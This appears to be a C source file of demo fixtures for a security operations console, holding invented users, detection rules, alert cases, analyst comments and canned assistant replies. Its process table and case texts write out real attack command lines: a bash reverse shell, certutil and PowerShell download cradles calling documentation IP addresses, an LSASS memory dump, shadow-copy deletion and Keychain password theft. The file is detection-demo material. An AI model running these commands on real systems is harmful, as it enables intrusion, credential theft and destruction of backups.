#include "config.h"
#include "demo/demo_names.h"

#define W DEMO_OS_WINDOWS
#define L DEMO_OS_LINUX
#define M DEMO_OS_MACOS

const struct demo_person_def demo_people[] = {
	{"elastic", NULL, NULL},
	{"jdoe", "Jane Doe", "jane.doe@acme.example"},
	{"msmith", "Marcus Smith", "marcus.smith@acme.example"},
	{"akhan", "Aisha Khan", "aisha.khan@acme.example"},
	{"lnguyen", "Linh Nguyen", "linh.nguyen@acme.example"},
	{"pkowalski", "Piotr Kowalski", "piotr.kowalski@acme.example"},
	{"sgarcia", "Sofia García", "sofia.garcia@acme.example"},
	{"tobrien", "Tom O'Brien", "tom.obrien@acme.example"},
	{"ymori", "Yuki Mori", "yuki.mori@acme.example"},
	{"rbecker", "Rolf Becker", "rolf.becker@acme.example"},
	{"soc-bot", "SOC Automation", NULL},
};
const size_t demo_n_people = DEMO_N(demo_people);

const struct demo_rule_def demo_rules[] = {
	{"Suspicious PowerShell Encoded Command", "high", "process", "start", "Execution", 73, W, "powershell.exe"},
	{"Ransomware - Prevented - Elastic Defend", "critical", "malware", "creation", "Impact", 99, W | L, NULL},
	{"Malware Detection Alert", "critical", "malware", "execution", "Execution", 99, W | L | M, NULL},
	{"Credential Dumping - LSASS Memory Access", "critical", "process", "start", "Credential Access", 91, W,
	 "rundll32.exe"},
	{"Potential Credential Access via Windows Utilities", "high", "process", "start", "Credential Access", 73, W,
	 "rundll32.exe"},
	{"Unusual Parent-Child Relationship", "medium", "process", "start", "Privilege Escalation", 47, W, "cmd.exe"},
	{"Scheduled Task Created by a Windows Script", "medium", "process", "start", "Persistence", 47, W,
	 "schtasks.exe"},
	{"Startup Persistence by a Suspicious Process", "medium", "file", "creation", "Persistence", 47, W,
	 "wscript.exe"},
	{"Microsoft Office Child Process Spawned", "high", "process", "start", "Initial Access", 73, W,
	 "winword.exe"},
	{"Remote File Download via PowerShell", "medium", "network", "connection_attempted", "Command and Control",
	 47, W, "certutil.exe"},
	{"Connection to Commonly Abused Web Services", "low", "network", "connection_attempted",
	 "Command and Control", 21, W | L | M, NULL},
	{"Potential Reverse Shell Activity via Terminal", "high", "process", "exec", "Execution", 73, L | M, "bash"},
	{"SSH Authorized Keys File Modification", "medium", "file", "modification", "Persistence", 47, L | M, NULL},
	{"Sudo Heap-Based Buffer Overflow Attempt", "high", "process", "exec", "Privilege Escalation", 73, L,
	 "sudoedit"},
	{"Cron Job Created or Modified", "low", "file", "creation", "Persistence", 21, L, "crontab"},
	{"Suspicious Curl to Raw Pastebin Content", "medium", "process", "exec", "Command and Control", 47, L | M,
	 "curl"},
	{"Potential Linux Credential Dumping via Unshadow", "high", "process", "exec", "Credential Access", 73, L,
	 "unshadow"},
	{"Launch Agent Creation or Modification", "medium", "file", "creation", "Persistence", 47, M, "launchctl"},
	{"Keychain Password Retrieval via Command Line", "high", "process", "exec", "Credential Access", 73, M,
	 "security"},
	{"Multiple Logon Failure Followed by Logon Success", "medium", "authentication", "logged-in",
	 "Credential Access", 47, W | L, NULL},
	{"Port Scan Detected from Internal Host", "low", "network", "connection_attempted", "Discovery", 21, W | L,
	 NULL},
	{"Beaconing to Rare External Domain", "high", "network", "connection_attempted", "Command and Control", 73,
	 W | L | M, NULL},
	{"Web Shell Detection: Script Process Child of Web Server", "critical", "process", "exec", "Persistence", 91,
	 L | W, "python3"},
	{"Shadow Copy Deletion via Vssadmin", "critical", "process", "start", "Impact", 91, W, "vssadmin.exe"},
};
const size_t demo_n_rules = DEMO_N(demo_rules);

const struct demo_proc_def demo_procs[] = {
	{"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	 "-NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "cmd.exe",
	 "jdoe", W},
	{"cmd.exe", "C:\\Windows\\System32\\cmd.exe", "/c whoami /all & net group \"Domain Admins\" /domain",
	 "explorer.exe", "msmith", W},
	{"rundll32.exe", "C:\\Windows\\System32\\rundll32.exe",
	 "C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp full", "cmd.exe", "SYSTEM",
	 W},
	{"winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
	 "/n \"C:\\Users\\akhan\\Downloads\\Invoice_2024-0193.docm\"", "explorer.exe", "akhan", W},
	{"schtasks.exe", "C:\\Windows\\System32\\schtasks.exe",
	 "/create /tn \"OneDrive Update\" /tr \"C:\\Users\\Public\\odu.exe\" /sc onlogon /rl highest", "wscript.exe",
	 "jdoe", W},
	{"vssadmin.exe", "C:\\Windows\\System32\\vssadmin.exe", "delete shadows /all /quiet", "cmd.exe", "SYSTEM", W},
	{"svchost.exe", "C:\\Windows\\System32\\svchost.exe", "-k netsvcs -p -s Schedule", "services.exe", "SYSTEM",
	 W},
	{"explorer.exe", "C:\\Windows\\explorer.exe", "", "userinit.exe", "lnguyen", W},
	{"certutil.exe", "C:\\Windows\\System32\\certutil.exe",
	 "-urlcache -split -f http://203.0.113.77/a.txt C:\\Users\\Public\\a.exe", "powershell.exe", "msmith", W},
	{"wscript.exe", "C:\\Windows\\System32\\wscript.exe", "//B C:\\Users\\Public\\update.vbs", "explorer.exe",
	 "jdoe", W},
	{"chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "--type=renderer --lang=en-US",
	 "explorer.exe", "lnguyen", W},
	{"odu.exe", "C:\\Users\\Public\\odu.exe", "--silent --install", "schtasks.exe", "jdoe", W},
	{"bash", "/usr/bin/bash", "-c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'", "python3", "www-data", L},
	{"curl", "/usr/bin/curl", "-fsSL https://pastebin.com/raw/8ZqXk2Lm -o /tmp/.x", "bash", "deploy", L | M},
	{"python3", "/usr/bin/python3", "-c 'import pty; pty.spawn(\"/bin/sh\")'", "nginx", "www-data", L},
	{"sshd", "/usr/sbin/sshd", "-D -R", "systemd", "root", L},
	{"crontab", "/usr/bin/crontab", "-l", "bash", "deploy", L},
	{"unshadow", "/usr/sbin/unshadow", "/etc/passwd /etc/shadow", "bash", "root", L},
	{"sudoedit", "/usr/bin/sudoedit", "-s '\\' AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "bash", "deploy", L},
	{"nginx", "/usr/sbin/nginx", "-g daemon off;", "systemd", "root", L},
	{"java", "/usr/lib/jvm/java-17-openjdk/bin/java", "-Xmx2g -jar /opt/app/billing-service.jar", "systemd",
	 "app", L},
	{"nc", "/usr/bin/nc", "-lvnp 4444", "bash", "www-data", L | M},
	{"osascript", "/usr/bin/osascript",
	 "-e 'display dialog \"Update required\" default answer \"\" with hidden answer'", "launchd", "ymori", M},
	{"security", "/usr/bin/security", "find-generic-password -wa 'Chrome Safe Storage'", "zsh", "ymori", M},
	{"zsh", "/bin/zsh", "-l", "Terminal", "rbecker", M},
	{"launchctl", "/bin/launchctl", "load -w /Library/LaunchAgents/com.apple.updates.plist", "zsh", "rbecker", M},
	{"Slack", "/Applications/Slack.app/Contents/MacOS/Slack", "--no-sandbox", "launchd", "ymori", M},
};
const size_t demo_n_procs = DEMO_N(demo_procs);

const struct demo_file_def demo_files[] = {
	{"C:\\Users\\Public\\odu.exe", W},
	{"C:\\Windows\\Temp\\lsass.dmp", W},
	{"C:\\Users\\akhan\\Downloads\\Invoice_2024-0193.docm", W},
	{"C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\update.lnk", W},
	{"C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Crypto\\RSA\\HOW_TO_DECRYPT.txt", W},
	{"C:\\Users\\Public\\a.exe", W},
	{"/tmp/.x", L | M},
	{"/root/.ssh/authorized_keys", L},
	{"/var/spool/cron/crontabs/deploy", L},
	{"/var/www/html/uploads/shell.php", L},
	{"/home/deploy/.config/autostart/dbus-update.desktop", L},
	{"/Users/ymori/Library/LaunchAgents/com.apple.updates.plist", M},
	{"/Users/rbecker/Downloads/ZoomInstaller.pkg", M},
};
const size_t demo_n_files = DEMO_N(demo_files);

const struct demo_connector_def demo_connectors[] = {
	{"Jira SOC project", ".jira", "https://acme.atlassian.net", "SOC", 0},
	{"Jira (misconfigured)", ".jira", "https://acme-old.atlassian.net", "SECOPS", 0},
	{"ServiceNow ITSM", ".servicenow", "https://acme.service-now.com", NULL, 0},
	{"ServiceNow SecOps", ".servicenow-sir", "https://acme.service-now.com", NULL, 0},
	{"IBM Resilient", ".resilient", "https://resilient.acme.example", NULL, 0},
	{"Swimlane SOAR", ".swimlane", "https://swimlane.acme.example", NULL, 0},
	{"Case webhook (TheHive)", ".cases-webhook", "https://thehive.acme.example/api/case", NULL, 0},
	{"SOC email", ".email", NULL, NULL, 1},
	{"Alert archive index", ".index", NULL, NULL, 0},
	{"#soc-alerts Slack", ".slack", NULL, NULL, 0},
	{"Pager webhook", ".webhook", "https://events.pager.example/v2/enqueue", NULL, 0},
	{"OpenAI GPT-4o", ".gen-ai", "https://api.openai.com/v1/chat/completions", "gpt-4o", 0},
	{"Claude 3.5 Sonnet (Bedrock)", ".bedrock", "https://bedrock-runtime.us-east-1.amazonaws.com",
	 "anthropic.claude-3-5-sonnet-20240620-v1:0", 0},
	{"TheHive SOC", ".thehive", "https://thehive.acme.example", NULL, 0},
};
const size_t demo_n_connectors = DEMO_N(demo_connectors);

const char *const demo_win_hosts[] = {"WIN-DC", "WKS-FIN-", "LAPTOP-HR", "WIN-SQL", "WKS-ENG-", "WIN-EXCH", "RDS-"};
const size_t demo_n_win_hosts = DEMO_N(demo_win_hosts);
const char *const demo_linux_hosts[] = {"web-prod-", "db-", "k8s-node-", "bastion-", "ci-runner-", "billing-api-"};
const size_t demo_n_linux_hosts = DEMO_N(demo_linux_hosts);
const char *const demo_mac_hosts[] = {"ymori-mbp-", "rbecker-mba-", "design-imac-"};
const size_t demo_n_mac_hosts = DEMO_N(demo_mac_hosts);

const char *const demo_accounts[] = {"jdoe", "msmith", "akhan", "lnguyen", "SYSTEM", "root", "www-data",
				     "deploy", "ymori", "rbecker", "svc_backup", "administrator"};
const size_t demo_n_accounts = DEMO_N(demo_accounts);

const char *const demo_case_titles[] = {
	"Ransomware note found on %s",
	"Beaconing to 203.0.113.9 from %s",
	"Credential dumping attempt on %s",
	"Phishing attachment opened on %s",
	"Suspicious PowerShell on %s",
	"Reverse shell from web tier (%s)",
	"Unauthorized SSH key added on %s",
	"Impossible travel for privileged account",
	"Possible data exfiltration via HTTPS from %s",
	"Malware quarantined on %s — verify containment",
	"Shadow copies deleted on %s",
	"Brute force followed by successful logon on %s",
	"Web shell uploaded to %s",
	"Persistence via scheduled task on %s",
	"Keychain access by unknown script on %s",
	"Port scan from internal host %s",
};
const size_t demo_n_case_titles = DEMO_N(demo_case_titles);

const char *const demo_case_descriptions[] = {
	"Files on **%s** were renamed with a `.lockbit` extension and `HOW_TO_DECRYPT.txt` appeared in every folder.\n\n"
	"- Shadow copies were deleted minutes before\n- The host was isolated by the on-call analyst\n\n"
	"Next steps: identify patient zero, check backups, reset credentials.",
	"Outbound connections every 60 s (±2 s jitter) from %s to a domain registered three days ago. "
	"Traffic volume is small but regular, consistent with a C2 beacon.",
	"LSASS memory was accessed by `rundll32.exe` loading `comsvcs.dll` on %s. "
	"Treat all credentials cached on this host as compromised.",
	"A user on %s opened `Invoice_2024-0193.docm`; Word spawned PowerShell which downloaded a second stage.\n\n"
	"1. Retrieve the document from the mail gateway\n2. Search for other recipients\n3. Block the sender domain",
	"Encoded PowerShell ran on %s:\n\n```\npowershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgA...\n```\n\n"
	"Decoded, it fetches `http://203.0.113.77/a.txt`.",
	"Nginx on %s spawned `python3` which opened a PTY and connected to 198.51.100.23:4444.\n\n"
	"```\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n```",
	"A new key was appended to `/root/.ssh/authorized_keys` on %s outside any change window. "
	"The key comment is `deploy@laptop` but no such laptop is registered.",
	"A privileged account signed in from two countries within 40 minutes. Last seen on %s. "
	"The second sign-in used a legacy protocol that bypasses MFA.",
	"%s sent 4.2 GB over HTTPS to a file-sharing service between 01:00 and 03:00 UTC. "
	"No backup or sync job is scheduled at that time.",
	"Elastic Defend quarantined a known malware sample on %s. Verify that no persistence was left behind "
	"and that the user did not run a copy from another folder.",
	"`vssadmin delete shadows /all /quiet` ran on %s — a common step right before encryption. "
	"No encryption observed yet; the process was killed by the prevention policy.",
	"After 312 failed logons from one source, a logon to %s succeeded for `svc_backup`. "
	"The account has no interactive logon rights in policy.",
	"`shell.php` appeared in the uploads folder of %s and was requested from two external addresses. "
	"The web server then ran `id` and `uname -a`.",
	"A scheduled task named *OneDrive Update* on %s runs `C:\\Users\\Public\\odu.exe` at every logon "
	"with highest privileges. OneDrive does not install tasks like this.",
	"`security find-generic-password` was run on %s by a script in `/tmp`, reading the Chrome Safe Storage key. "
	"Browser cookies and saved passwords should be treated as stolen.",
	"%s connected to 1,024 ports on 60 internal hosts in five minutes. "
	"The host belongs to IT; check whether a scan was scheduled.",
};
const size_t demo_n_case_descriptions = DEMO_N(demo_case_descriptions);

const char *const demo_case_tags[] = {"ransomware", "phishing", "c2", "credential-access", "persistence",
				      "lateral-movement", "exfiltration", "threat-hunt", "false-positive?",
				      "vip", "pci", "tier-2", "mitre:T1059", "mitre:T1003", "mitre:T1486"};
const size_t demo_n_case_tags = DEMO_N(demo_case_tags);

const char *const demo_case_categories[] = {"Malware", "Intrusion", "Phishing", "Insider", "Policy"};
const size_t demo_n_case_categories = DEMO_N(demo_case_categories);

const char *const demo_comment_texts[] = {
	"Isolated the host from the network; user informed by phone.",
	"Memory image collected and uploaded to the evidence share.",
	"The hash matches a known LockBit 3.0 sample on VirusTotal (52/71 engines).",
	"False positive? The script belongs to the backup vendor — waiting for confirmation from IT.",
	"Escalated to tier 3. @akhan please take over during the night shift.",
	"Blocked 203.0.113.9 and the domain on the perimeter firewall.",
	"User's password reset and all sessions revoked in the IdP.",
	"Found the same scheduled task on two more hosts:\n\n- WKS-FIN-014\n- WKS-FIN-022",
	"Closing: reimaged the machine and restored files from last night's backup.",
	"Timeline attached. First malicious event at 02:14 UTC, lateral movement at 02:31 UTC.",
};
const size_t demo_n_comment_texts = DEMO_N(demo_comment_texts);

const char *const demo_conv_titles[] = {
	"Triage: encoded PowerShell on WKS-FIN-014",
	"Explain this reverse shell alert",
	"ES|QL query for failed logons per user",
	"Summarize case: ransomware on WIN-DC01",
	"Is comsvcs.dll MiniDump always malicious?",
	"Attack discovery: credential theft chain",
	"Write a KQL filter for suspicious curl",
	"What does MITRE T1053.005 mean?",
	"Help me write an exception for the backup agent",
	"Alert summary for the night shift",
	"Investigate beaconing to rare domain",
	"Generate an incident report draft",
};
const size_t demo_n_conv_titles = DEMO_N(demo_conv_titles);

const char *const demo_conv_user[] = {
	"Can you explain what this alert means and whether I should escalate it?",
	"Write an ES|QL query that counts failed logons per user over the last 24 hours.",
	"Summarize the attached alerts for a non-technical manager.",
	"Is it normal for winword.exe to spawn powershell.exe?",
	"Which hosts talked to 203.0.113.9 this week?",
	"Draft the containment steps for this incident.",
	"Give me a KQL filter that excludes our backup service account.",
};
const size_t demo_n_conv_user = DEMO_N(demo_conv_user);

const char *const demo_conv_assistant[] = {
	"This alert fired because `powershell.exe` ran with `-EncodedCommand`, a common way to hide "
	"a payload. Decoded, the command downloads a second stage:\n\n"
	"```powershell\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.txt')\n```\n\n"
	"**Recommendation:** escalate. Next steps:\n\n1. Isolate the host\n2. Retrieve `a.txt` from the proxy logs\n"
	"3. Check other hosts for the same parent process",
	"Here is an ES|QL query:\n\n```esql\nFROM logs-*\n| WHERE event.category == \"authentication\" AND "
	"event.outcome == \"failure\"\n| WHERE @timestamp > NOW() - 24 hours\n| STATS failures = COUNT(*) BY user.name\n"
	"| SORT failures DESC\n| LIMIT 20\n```\n\nAdjust the index pattern to your environment.",
	"Summary for management:\n\n- **What happened:** a staff laptop opened a malicious invoice.\n"
	"- **Impact:** one machine affected, no evidence of data theft so far.\n"
	"- **Actions taken:** the laptop was disconnected and the password reset.\n",
	"No. `winword.exe` → `powershell.exe` is rare in most organisations and is a classic sign of a "
	"malicious macro (MITRE ATT&CK T1566.001 then T1059.001). Legitimate add-ins seldom do this.",
	"Three hosts contacted **203.0.113.9** in the last 7 days:\n\n| host | first seen | connections |\n"
	"|---|---|---|\n| WKS-FIN-014 | Mon 02:14 | 1,204 |\n| WKS-FIN-022 | Mon 02:31 | 388 |\n"
	"| web-prod-03 | Tue 11:02 | 12 |",
	"Containment plan:\n\n1. Isolate affected endpoints from Elastic Security (response action *isolate*).\n"
	"2. Disable the compromised accounts.\n3. Block the C2 indicators at the firewall.\n"
	"4. Preserve evidence before reimaging.",
	"Use this KQL:\n\n```kql\nNOT user.name : \"svc_backup\" and process.name : (\"curl\" or \"wget\")\n```",
};
const size_t demo_n_conv_assistant = DEMO_N(demo_conv_assistant);

const char *const demo_conv_errors[] = {
	"An error occurred sending your message.\n\nAPI Error: Too Many Requests - Rate limit reached for "
	"gpt-4o in organization org-acme on tokens per min (TPM): Limit 30000, Used 29854, Requested 1520.",
	"An error occurred sending your message.\n\nConnector error: Status code: 401. Message: Unauthorized - "
	"Incorrect API key provided.",
	"An error occurred sending your message.\n\nThe request timed out after 180000 ms.",
};
const size_t demo_n_conv_errors = DEMO_N(demo_conv_errors);

const char *const demo_conv_system[] = {
	"You are a helpful, expert assistant who answers questions about Elastic Security. "
	"Do not answer questions unrelated to Elastic Security.",
	"You are a security analyst assistant. Use the context of the attached alerts. "
	"Format code and queries in fenced code blocks.",
};
const size_t demo_n_conv_system = DEMO_N(demo_conv_system);

const char *const demo_action_comments[] = {
	"Containment during incident triage",
	"Suspicious process, suspending pending investigation",
	"Collecting evidence for the case",
	"Release after reimage",
	"Requested by the IR lead",
	"Automated response from rule",
};
const size_t demo_n_action_comments = DEMO_N(demo_action_comments);

const char demo_jira_push_error[] =
	"[Action][Jira]: Unable to create incident. Error: Request failed with status code 400. "
	"Reason: Field 'priority' cannot be set. It is not on the appropriate screen, or unknown.; "
	"Field 'labels' cannot be set. It is not on the appropriate screen, or unknown.; "
	"Field 'customfield_10034' (Incident Severity) is required.; "
	"Issue type 'Task' is not valid for project 'SECOPS': the project's issue type scheme "
	"'SECOPS: Kanban Issue Type Scheme' only allows [Bug, Story, Epic]. "
	"Check the connector's issue type and the field configuration of the Jira project at "
	"https://acme-old.atlassian.net/plugins/servlet/project-config/SECOPS/fields "
	"(response id 7d3c0a61-9f0e-4b8e-a1c4-2f5e8d9b6a71).";
